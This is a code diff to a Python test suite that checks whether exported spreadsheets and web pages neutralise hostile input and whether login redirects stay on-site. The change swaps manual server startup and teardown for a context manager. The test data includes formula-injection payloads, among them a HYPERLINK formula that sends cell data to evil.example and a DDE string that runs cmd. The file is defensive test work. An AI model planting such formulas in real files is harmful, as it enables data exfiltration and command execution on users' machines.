@@ -18,7 +18,7 @@ from api.exports import ExportSpec, Source, make
 from api.exports.cells import TRIGGERS
 from api.settings import Settings
 from layers import store
-from tests.api.test_browser import _serve, browser, open_page  # noqa: F401 (browser is a fixture)
+from tests.api.test_browser import browser, open_page, serving  # noqa: F401 (browser is a fixture)
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)",
@@ -115,8 +115,7 @@ def test_api_exports_are_neutralised_too(hostile):
 
 @pytest.mark.browser
 def test_pages_run_no_hostile_string(hostile, browser):  # noqa: F811
-    url, srv, thread = _serve(hostile)
-    try:
+    with serving(hostile) as url:
         for path in ("/", "/coverage", "/overview", "/placement"):
             page = open_page(browser, f"{url}{path}")
             dialogs: list[str] = []
@@ -130,9 +129,6 @@ def test_pages_run_no_hostile_string(hostile, browser):  # noqa: F811
             assert [e for e in page.errors if "Content Security Policy" in e] == [], page.errors
             assert page.errors == [], (path, page.errors)
             page.close()
-    finally:
-        srv.should_exit = True
-        thread.join(timeout=10)
 
 
 # ---- requests from elsewhere ----------------------------------------------------------------------
@@ -242,8 +238,7 @@ def test_login_follows_only_paths_of_this_site(analysed_path, tmp_path, browser,
     path = tmp_path / "demo.gpkg"
     shutil.copyfile(analysed_path, path)
     access.add_user(store.open_workspace(path), "worker", "grid_worker", access.Area(), "correct horse battery")
-    url, srv, thread = _serve(path, auth=True)
-    try:
+    with serving(path, auth=True) as url:
         page = browser.new_page()
         page.goto(f"{url}/login?next={target}", wait_until="load")
         page.fill("#username", "worker")
@@ -252,6 +247,3 @@ def test_login_follows_only_paths_of_this_site(analysed_path, tmp_path, browser,
             page.click("button[type=submit]")
         assert page.url.startswith(url + "/"), page.url
         page.close()
-    finally:
-        srv.should_exit = True
-        thread.join(timeout=10)
